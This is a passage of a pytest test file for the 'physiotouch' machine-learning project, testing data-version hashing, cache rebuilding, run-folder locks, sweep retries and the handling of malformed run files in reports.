    env = Env(small_data, tmp_path, tmp_path, tmp_path / "M")
    escaping_row(env)
    base = dict(root=str(small_data), index=str(small_data / "index.csv"), image_size=28,
                cache_dir=str(tmp_path / "cache"), split={"val_fraction": 0.2, "test_fraction": 0.2})
    dm = build_datamodule({**base, "allow_outside_root": True})
    dm.setup()
    assert any("evil" in s for split in dm.record["sequences"].values() for s in split)


def test_changed_frame_or_other_root_gives_another_cache_and_keeps_the_others(small_data, tmp_path):
    cache = tmp_path / "cache"
    base = dict(index="index.csv", image_size=28, cache_dir=str(cache), split={"val_fraction": 0.2,
                                                                                "test_fraction": 0.2})

    def setup(root: Path):
        dm = build_datamodule({**base, "root": str(root), "index": str(root / "index.csv")})
        dm.setup()
        return dm

    first = setup(small_data)
    copy = tmp_path / "copy"
    shutil.copytree(small_data, copy)
    other = setup(copy)
    assert other.record["data_version"] != first.record["data_version"]  # another root
    # A frame rewritten in place with bytes of the same size: only its modification time says so.
    frame = small_data / first.record["sequences"]["train"][0] / "0.png"
    stat = frame.stat()
    frame.write_bytes(frame.read_bytes())
    os.utime(frame, ns=(stat.st_atime_ns, stat.st_mtime_ns + 10**9))
    assert frame.stat().st_size == stat.st_size
    changed = setup(small_data)
    assert changed.record["data_version"] != first.record["data_version"]
    assert changed.datasets["train"].cache.path != first.datasets["train"].cache.path  # rebuilt
    # the copy's caches survive the original root's stale-cache sweep
    assert other.datasets["train"].cache.path.is_file()


def test_same_size_content_with_its_mtime_restored_or_new_labels_is_another_data_version(small_data):
    """`cp -p` / `rsync -t` put the old mtime on new content of the same size; labels.csv is data too."""
    from physiotouch.data.index import read_index
    from physiotouch.data.splits import data_version

    index = small_data / "index.csv"
    seqs, _ = read_index(index)
    before = data_version(small_data, index, seqs)
    frame = next((small_data / seqs[0].folder).glob("*.png"))
    st = frame.stat()
    time.sleep(0.01)
    frame.write_bytes(bytes(reversed(frame.read_bytes())))  # other content, the same size
    os.utime(frame, ns=(st.st_atime_ns, st.st_mtime_ns))
    assert frame.stat().st_size == st.st_size and frame.stat().st_mtime_ns == st.st_mtime_ns
    after = data_version(small_data, index, seqs)
    assert after != before
    labels = small_data / "labels.csv"
    labels.write_text(labels.read_text().replace("press", "slide", 1))
    assert data_version(small_data, index, seqs) != after


def test_a_dead_holders_lock_is_taken_over_and_a_live_one_refuses(tmp_path):
    from physiotouch.utils.locks import FolderLock

    lock = tmp_path / ".run.lock"
    lock.write_text(json.dumps({"pid": 999999, "host": "gone", "since": "then", "command": "killed"}))
    with FolderLock(lock, "run folder") as held:
        assert held.took_over["pid"] == 999999
        holder = subprocess.run([sys.executable, "-c", "from physiotouch.utils.locks import FolderLock\n"
                                 f"FolderLock({str(lock)!r}, 'run folder').acquire()"], capture_output=True, text=True)
        assert holder.returncode != 0 and f"pid {os.getpid()}" in holder.stderr
    assert json.loads(lock.read_text() or "{}") == {}


@pytest.mark.slow
def test_two_trainings_into_one_folder_one_refused(small_data, tmp_path):
    env = Env(small_data, tmp_path, tmp_path, tmp_path / "M")
    out = tmp_path / "shared"
    first = subprocess.Popen([sys.executable, "-m", *train(env, "trainer.max_epochs=200", out=out)],
                             stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    deadline = time.time() + 120
    while time.time() < deadline and not (out / "run_info.json").is_file() and first.poll() is None:
        time.sleep(0.05)
    assert first.poll() is None, first.stderr.read()[-2000:]
    try:
        second = subprocess.run([sys.executable, "-m", *train(env, "seed=5", "ckpt_path=last", out=out)],
                                capture_output=True, text=True)
        assert first.poll() is None, "the first run must still be running"
    finally:
        first.kill()
        first.wait()
    assert second.returncode == 3 and "is in use by pid" in second.stderr and "Traceback" not in second.stderr
    assert json.loads((out / "run_info.json").read_text())["seed"] == 0  # the second wrote nothing
    # the killed holder's lock is taken over by the next start (said in its log), which resumes
    third = subprocess.run([sys.executable, "-m", *train(env, "ckpt_path=last", "trainer.max_epochs=1", out=out)],
                           capture_output=True, text=True)
    assert "took over the lock" in third.stdout + third.stderr


@pytest.mark.slow
def test_stale_temp_files_are_cleaned_when_a_run_restarts(small_data, tmp_path):
    env = Env(small_data, tmp_path, tmp_path, tmp_path / "M")
    out = tmp_path / "out"
    assert subprocess.run([sys.executable, "-m", *train(env, out=out)], capture_output=True).returncode == 0
    orphan = out / "checkpoints" / ".last.ckpt.abc123.tmp"
    orphan.write_bytes(b"half a checkpoint")
    res = subprocess.run([sys.executable, "-m", *train(env, "ckpt_path=last", "trainer.max_epochs=2", out=out)],
                         capture_output=True, text=True)
    assert res.returncode == 0, res.stderr[-2000:]
    assert not orphan.exists()


def test_disk_errors_become_one_line():
    err = as_user_error(OSError(errno.ENOSPC, "No space left on device", "/x/last.ckpt"))
    assert err.exit_code == 3 and "/x/last.ckpt" in str(err)
    assert as_user_error(OSError(errno.EBADF, "bad fd")) is None  # not the user's to fix: keeps its traceback


def test_report_names_skipped_runs_and_goes_on(trained_run, tmp_path):
    from physiotouch.experiments.results_report import build_report

    for name in ("a", "b", "half", "cut"):
        shutil.copytree(trained_run, tmp_path / "runs" / name)
    (tmp_path / "runs" / "half" / "history.json").unlink()
    cut = tmp_path / "runs" / "cut" / "history.json"
    cut.write_text(cut.read_text()[:50])
    result = build_report([tmp_path / "runs"], tmp_path / "rep")
    assert len(result["table"]) == 2 and len(result["skipped"]) == 2
    md = (tmp_path / "rep" / "report.md").read_text()
    assert "half: unfinished" in md and "cut:" in md and "not valid JSON" in md


def test_one_odd_run_in_a_sweep_is_skipped_with_its_reason(trained_run, tmp_path):
    """Files no physiotouch run writes (a list for a mapping, a string for a number, an odd split, deep nesting) skip
    that run with its reason; the report goes on with the others, from the command line too."""
    odd = {"summary-list": ("summary.json", "[1, 2]"), "info-list": ("run_info.json", "[]"),
           "history-string": ("history.json", None), "odd-splits": ("splits.json", '{"groups": [1], "split": 3}'),
           "deep": ("summary.json", "[" * 100_000 + "]" * 100_000)}
    for name in ("good", *odd):
        shutil.copytree(trained_run, tmp_path / "runs" / name)
    for name, (fname, text) in odd.items():
        path = tmp_path / "runs" / name / fname
        if text is None:
            rows = json.loads(path.read_text())
            rows[-1]["val/objective"] = "low"
            text = json.dumps(rows)
        path.write_text(text)
    res = subprocess.run([sys.executable, "-m", "physiotouch.report", str(tmp_path / "runs"), "--out",
                          str(tmp_path / "rep")], capture_output=True, text=True)
    assert res.returncode == 0 and "Traceback" not in res.stderr, res.stderr[-3000:]
    md = (tmp_path / "rep" / "report.md").read_text()
    for name in odd:
        assert f"{name}:" in md, name
    assert "holds a list, not a mapping" in md and "'low', not a number" in md and "nested too deeply" in md


def test_relaunched_search_runs_queued_retries_even_after_n_trials(tmp_path):
    import optuna

    from physiotouch.search.sweeper import FINISHED_ATTR, PhysiotouchOptunaSweeper

    study = optuna.create_study(storage=f"sqlite:///{tmp_path}/s.db", study_name="s")
    for _ in range(2):
        trial = study.ask()
        trial.set_user_attr(FINISHED_ATTR, True)
        study.tell(trial, 1.0)
    study.enqueue_trial({})  # a stale trial's retry is a WAITING trial like this one
    sweeper = PhysiotouchOptunaSweeper.__new__(PhysiotouchOptunaSweeper)
    sweeper.n_trials, sweeper.n_jobs, sweeper.search = 2, 1, {}
    assert sweeper._next_batch_size(study) == 1
    trial = study.ask()
    trial.set_user_attr(FINISHED_ATTR, True)
    study.tell(trial, 1.0)
    assert sweeper._next_batch_size(study) == 0


def test_a_trial_that_goes_stale_between_two_looks_is_still_retried(tmp_path):
    """The sweep's loop ends only when no trial is RUNNING: a trial that turned stale after `_fail_stale` looked keeps
    the loop going, and the next pass fails it and queues its retry."""
    import optuna
    from optuna.trial import TrialState

    from physiotouch.search import storage as st
    from physiotouch.search.sweeper import FINISHED_ATTR, PhysiotouchOptunaSweeper

    study = optuna.create_study(storage=f"sqlite:///{tmp_path}/s.db", study_name="s")
    for _ in range(2):
        trial = study.ask()
        trial.set_user_attr(FINISHED_ATTR, True)
        study.tell(trial, 1.0)
    dead = study.ask({"x": optuna.distributions.FloatDistribution(0, 1)})
    dead.set_user_attr(st.HEARTBEAT_ATTR, 0.0)  # its sweep stopped beating long ago
    sweeper = PhysiotouchOptunaSweeper.__new__(PhysiotouchOptunaSweeper)
    sweeper.n_trials, sweeper.n_jobs, sweeper.search = 2, 1, {}
    assert sweeper._next_batch_size(study) == 0  # n_trials have finished: nothing new to start...
    assert sweeper._others_running(study)  # ...but the loop goes on while the stale trial is RUNNING
    sweeper._fail_stale(study, study._storage)
    assert study.trials[dead.number].state == TrialState.FAIL
    assert sweeper._next_batch_size(study) == 1 and not sweeper._others_running(study)  # its retry runs


def test_a_stale_run_folder_file_from_a_fifo_never_blocks(tmp_path):
    from physiotouch import run_folder

    fifo = tmp_path / "summary.json"
    os.mkfifo(fifo)
    with pytest.raises(run_folder.RunFolderError):
        run_folder.read_json(fifo)
